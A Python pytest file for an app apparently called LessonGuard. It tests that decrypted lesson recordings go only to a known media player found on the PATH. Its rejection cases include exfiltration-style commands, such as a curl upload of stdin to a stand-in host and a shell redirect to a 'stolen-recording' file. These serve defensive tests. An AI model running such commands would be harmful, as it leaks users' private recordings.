"""The program that receives a decrypted recording is one LessonGuard knows (ffplay, mpv,
VLC), named by $LESSONGUARD_PLAYER and found on the PATH; anything else is refused before a
byte is decrypted. Real parts: a real encrypted file, real programs on a real PATH."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from app.encrypted_file import EncryptedReader, EncryptedWriter, new_key
from app.errors import LessonGuardError
from capture.playback import PLAYER_ENV, play_external, player_command

PLAIN = b"the lesson, decrypted " * 5000


def program(folder: Path, name: str, body: str) -> Path:
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


@pytest.mark.parametrize("chosen", [
    "sh -c 'cat > /tmp/stolen-recording'",  # any program, with its own arguments
    "cat",
    "curl -T - https://example.invalid/",
    "ffplay -i pipe:0 -f null -",  # a known player with arguments of the user's choosing
])
def test_a_player_lessonguard_does_not_know_is_refused(
        chosen: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(PLAYER_ENV, chosen)
    with pytest.raises(LessonGuardError) as refused:
        player_command()
    assert "not a player LessonGuard hands recordings to" in str(refused.value)
    assert "ffplay, mpv, vlc" in refused.value.fix


def test_a_path_to_a_program_named_like_a_player_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = program(tmp_path / "elsewhere", "mpv", "cat > /dev/null")
    monkeypatch.setenv(PLAYER_ENV, str(fake))
    with pytest.raises(LessonGuardError, match="not a player"):
        player_command()


def test_a_known_player_is_found_on_the_path_and_fed_the_recording(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    received = tmp_path / "received"
    args = tmp_path / "args"
    bin_dir = tmp_path / "bin"
    program(bin_dir, "mpv", f'printf "%s\\n" "$@" > {args}; cat > {received}')
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv(PLAYER_ENV, "mpv")
    command = player_command()
    assert command[0] == str(bin_dir / "mpv")

    key = new_key()
    writer = EncryptedWriter(tmp_path / "rec.lgenc", key, sync=False)
    writer.write(PLAIN)
    writer.close()
    with EncryptedReader(tmp_path / "rec.lgenc", key) as reader:
        assert play_external(reader) == 0
    assert received.read_bytes() == PLAIN
    assert args.read_text().splitlines()[-1] == "-"  # it reads the recording from stdin


def test_a_missing_player_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv(PLAYER_ENV, "vlc")
    with pytest.raises(LessonGuardError, match="vlc is not installed"):
        player_command()
